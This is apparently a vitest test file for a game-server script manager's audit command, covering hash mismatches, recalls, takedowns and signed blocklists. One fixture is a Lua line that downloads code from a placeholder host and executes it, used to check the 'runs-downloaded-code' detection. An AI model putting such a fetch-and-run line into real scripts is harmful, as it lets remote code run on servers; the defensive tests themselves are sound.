import { createHash } from 'node:crypto'
import { mkdir } from 'node:fs/promises'

import { expect, onTestFinished, test } from 'vitest'

import { createGameServer, publishScript, resourceFiles, startHub } from '#test-support/game-server.ts'
import { startHubProxy, type ProxyAnswer } from '#test-support/hub-proxy.ts'
import { createOutdatedServer } from '#test-support/outdated-server.ts'

// The blocklist is signed for a new URL when a test changes it.
const app = await startHub({ cacheBytesMax: 0 })
const author = await app.createUser('scripts.upload', 'scripts.download')
const owner = await app.createOwner()

const outdatedServer = async (...files: [Record<string, string>?]) =>
  createOutdatedServer(app, author, {}, ...files)
type GameServer = Awaited<ReturnType<typeof createGameServer>>

async function problemsOf(server: GameServer, ...args: string[]) {
  const { stdout } = await server.run('audit', '--json', ...args)
  return JSON.parse(stdout)
}

const lockNames = ['scripthaven.json', 'scripthaven.lock']

test('audit names a locked version that is not installed yet, until the next sync', async () => {
  const { server, id } = await outdatedServer()
  const old = await Promise.all(lockNames.map((name) => server.read(name)))
  await server.run('update', '--yes')
  const updated = await Promise.all(lockNames.map((name) => server.read(name)))
  const [other, empty] = [await createGameServer({ token: author.token }), await createGameServer()]
  for (const [at, name] of lockNames.entries()) {
    await other.write(name, old[at] ?? '')
    await empty.write(name, updated[at] ?? '')
  }
  await other.run('sync')
  for (const [at, name] of lockNames.entries()) await other.write(name, updated[at] ?? '')

  expect(await problemsOf(other)).toEqual([
    {
      level: 'medium',
      what: 'other-version',
      script: id,
      text: expect.stringMatching(/is locked at 1\.1\.0, and 1\.0\.0 is installed\. Run ".* sync"/),
    },
  ])
  expect(await problemsOf(empty)).toMatchObject([
    { what: 'missing', text: expect.stringContaining('1.1.0 is locked and not installed') },
  ])
  await other.run('sync')
  expect(await problemsOf(other)).toEqual([])
})

test('audit names a resource that the lock no longer has', async () => {
  const { server, id, name } = await outdatedServer()
  const lock = JSON.parse(await server.read('scripthaven.lock'))
  await server.write(
    'scripthaven.lock',
    JSON.stringify({ ...lock, scripts: {}, resources: {}, sql: {}, start: [] }),
  )

  expect(await problemsOf(server)).toMatchObject([
    { level: 'medium', what: 'surplus', script: id, text: expect.stringContaining(`${name} is installed`) },
  ])
})

test('a changed file with its hash in installed.json is noticed, and sync brings the published one back', async () => {
  const { server, name, file } = await outdatedServer()
  const published = await server.read(file('server.lua'))
  const lock = await server.read('scripthaven.lock')
  const installed = JSON.parse(await server.read('scripthaven/installed.json'))
  const text = "print('other')\n"
  await server.write(file('server.lua'), text)
  installed.resources[name].files['server.lua'] = {
    sha256: createHash('sha256').update(text).digest('hex'),
    size: text.length,
  }
  await server.write('scripthaven/installed.json', JSON.stringify(installed))

  expect(await problemsOf(server)).toMatchObject([
    { level: 'high', what: 'other-hash', text: expect.stringContaining(`${name} has other hashes`) },
  ])
  expect(await server.run('sync')).toMatchObject({ code: 0, stderr: '' })
  expect(await server.read(file('server.lua'))).toBe(published)
  expect(await server.read('scripthaven.lock')).toBe(lock)
  expect(await problemsOf(server)).toEqual([])
})

const downloads = "PerformHttpRequest('https://a.example', function(_, text)\n  load(text)()\nend)\n"

/** The same server, with a hub that answers otherwise. */
async function changeHub(server: GameServer, answer: ProxyAnswer): Promise<void> {
  app.app.config.publicUrl = await moveHub(server, answer)
  onTestFinished(() => void (app.app.config.publicUrl = app.url))
}

/** The hub under another URL than its own. */
async function moveHub(server: GameServer, answer: ProxyAnswer): Promise<string> {
  const { url } = await startHubProxy(app.url, answer)
  for (const name of lockNames) await server.write(name, (await server.read(name)).replace(app.url, url))
  return url
}

test('audit names an open finding of severity high until allowFindings accepts its rule', async () => {
  const { server, id } = await outdatedServer({ 'server.lua': downloads })

  const [finding] = await problemsOf(server)
  expect(finding).toMatchObject({
    level: 'high',
    what: 'finding',
    script: id,
    text: expect.stringContaining('[runs-downloaded-code]'),
  })
  const project = JSON.parse(await server.read('scripthaven.json'))
  const allowFindings = { [id]: ['runs-downloaded-code'] }
  await server.write('scripthaven.json', JSON.stringify({ ...project, allowFindings }))
  expect(await problemsOf(server)).toEqual([])
})

test('a withdrawn version is a problem of level medium, and --fail-on decides the exit code', async () => {
  const { server, versionId, file } = await outdatedServer()
  await server.write(file('mine.lua'), 'mine')
  expect(await server.run('audit')).toMatchObject({ code: 0 })
  expect(await server.run('audit', '--fail-on', 'low')).toMatchObject({ code: 1 })
  await app.request(author, 'POST', `/api/versions/${versionId}/withdraw`, {
    kind: 'broken',
    reason: 'It does not start.',
  })

  expect(await server.run('audit')).toMatchObject({
    code: 1,
    stdout: expect.stringMatching(/medium .* was withdrawn \(broken\): It does not start\.\nlow /),
  })
  expect(await server.run('audit', '--fail-on', 'high')).toMatchObject({ code: 0 })
})

test('audit names another archive on the hub, and a version that is gone', async () => {
  const { server } = await outdatedServer()
  await changeHub(server, (path, text) => ({
    text:
      path === '/api/resolve'
        ? text.replace(/"sha256":"[0-9a-f]{64}"/, `"sha256":"${'0'.repeat(64)}"`)
        : text,
  }))
  expect(await problemsOf(server)).toMatchObject([
    { level: 'high', what: 'other-hash', text: expect.stringContaining('another archive on the hub') },
  ])
  const { server: other } = await outdatedServer()
  await changeHub(other, (path, text) => ({
    text: path === '/api/resolve' ? JSON.stringify({ ...JSON.parse(text), scripts: [] }) : text,
  }))
  expect(await problemsOf(other)).toMatchObject([
    { level: 'high', what: 'gone', text: expect.stringContaining('is no longer on the hub') },
  ])
})

test('a blocklist with another signature is an error', async () => {
  const { server } = await outdatedServer()
  await changeHub(server, (path, text) => ({
    text:
      path === '/api/blocklist.json'
        ? JSON.stringify({ ...JSON.parse(text), payload: Buffer.from('{}').toString('base64url') })
        : text,
  }))

  expect(await server.run('audit')).toMatchObject({
    code: 4,
    stderr: expect.stringContaining('The signature of the blocklist'),
  })
})

test('a blocklist that is signed for another hub is an error', async () => {
  const { server } = await outdatedServer()
  const url = await moveHub(server, (_, text) => ({ text }))

  expect(await server.run('audit')).toMatchObject({
    code: 4,
    stderr: expect.stringContaining(`The blocklist of ${url} is signed for ${app.url}.`),
  })
})

test('an older blocklist than before is a problem, and one of another hub before is not', async () => {
  const { server } = await outdatedServer()
  await server.write('scripthaven/blocklist.json', '{"hub":"https://other.example","revision":1000}')
  let [older, replayed] = ['', '']
  await changeHub(server, (path, text) => {
    if (path !== '/api/blocklist.json') return { text }
    older ||= text
    return { text: replayed || text }
  })
  expect(await problemsOf(server)).toEqual([])
  await app.request(owner, 'POST', '/api/moderation/blocklist', {
    kind: 'file',
    value: '1'.repeat(32),
    reason: 'Seen on infected servers',
  })
  expect(await problemsOf(server)).toEqual([])

  replayed = older
  expect(await problemsOf(server)).toEqual([
    {
      level: 'high',
      what: 'old-blocklist',
      script: null,
      text: expect.stringMatching(/older blocklist \(revision \d+\) than before \(revision \d+\)/),
    },
  ])
  expect(await server.run('audit', '--fail-on', 'high')).toMatchObject({ code: 1 })
})

test('audit works where its folder cannot be written, and says what it cannot remember', async () => {
  const { server } = await outdatedServer()
  await mkdir(server.path('scripthaven/blocklist.json.tmp'))

  expect(await server.run('audit')).toMatchObject({
    code: 0,
    stderr: expect.stringContaining('the next audit will not notice an older blocklist'),
  })
})

test('without the hub audit shows what the disk says, then the error', async () => {
  const { server, name, file } = await outdatedServer()
  await server.write(file('server.lua'), 'mine')
  for (const path of lockNames)
    await server.write(path, (await server.read(path)).replace(app.url, 'http://127.0.0.1:1'))

  const { code, stdout, stderr } = await server.run('audit')

  expect([code, stdout, stderr]).toEqual([
    4,
    `low     ${name}/server.lua differs from what was published.\n`,
    expect.stringContaining('does not respond'),
  ])
  expect(await problemsOf(server)).toMatchObject([{ what: 'changed' }])
})

test('a recalled version that is not in the feed any more is named, too', async () => {
  const { server, versionId } = await outdatedServer()
  await app.request(author, 'POST', `/api/versions/${versionId}/withdraw`, {
    kind: 'security',
    reason: 'It leaks the keys of the server.',
  })
  expect(await problemsOf(server)).toMatchObject([{ what: 'recalled' }])
  await changeHub(server, (path, text) => ({
    text: path === '/api/recalls' ? JSON.stringify({ ...JSON.parse(text), items: [] }) : text,
  }))

  expect(await problemsOf(server)).toMatchObject([
    {
      level: 'high',
      what: 'recalled',
      text: expect.stringMatching(/was recalled: It leaks.*Run ".* update"/),
    },
  ])
})

test('audit names recalled, taken-down and blocked files of resources that are not in the lock', async () => {
  const { server, versionId, id, file } = await outdatedServer()
  const files = { 'data/stolen.lua': 'return {}\n', 'data/other.lua': 'return 1\n' }
  const stolen = await publishScript(app, author, 'Stolen', resourceFiles('stolen', { files }))
  for (const path of ['fxmanifest.lua', 'server.lua', 'config.lua', 'sql/pier.sql'])
    await server.write(`resources/[old]/pier/${path}`, await server.read(file(path)))
  await server.write('resources/[old]/pier/config.lua', 'Config = { mine = true }\n')
  for (const { name, content } of resourceFiles('stolen', { files }))
    await server.write(`resources/[old]/${String(name)}`, String(content))
  await server.write('resources/own/fxmanifest.lua', "fx_version 'cerulean'\n")
  await server.write('resources/own/bad.lua', 'steal()\n')
  expect(await problemsOf(server)).toEqual([])

  await app.request(author, 'POST', `/api/versions/${versionId}/withdraw`, {
    kind: 'security',
    reason: 'It leaks the keys of the server.',
  })
  const removal = { reason: 'stolen', note: 'See the case.' }
  await app.request(owner, 'POST', `/api/scripts/${stolen.id}/removal`, removal)
  const value = createHash('sha256').update('steal()\n').digest('hex').slice(0, 32)
  await app.request(owner, 'POST', '/api/moderation/blocklist', {
    kind: 'file',
    value,
    reason: 'Seen on infected servers',
  })

  expect(await problemsOf(server)).toEqual([
    expect.objectContaining({ level: 'high', what: 'recalled', script: id }),
    {
      level: 'high',
      what: 'blocked',
      script: null,
      text: 'resources/own/bad.lua is on the blocklist of the hub.',
    },
    {
      level: 'high',
      what: 'recalled',
      script: id,
      text: expect.stringMatching(
        /^resources\/\[old\]\/pier is not in the lock and has the files of Pier \d+ 1\.0\.0 \(script \d+\), which was recalled: It leaks/,
      ),
    },
    {
      level: 'high',
      what: 'gone',
      script: stolen.id,
      text: `resources/[old]/stolen is not in the lock and has the files of Script ${stolen.id} 1.0.0, which was taken down: Stolen work. Remove it.`,
    },
  ])
  await server.run('remove', String(id))
  expect((await problemsOf(server)).map(({ what }: { what: string }) => what)).toEqual([
    'blocked',
    'recalled',
    'gone',
  ])
})
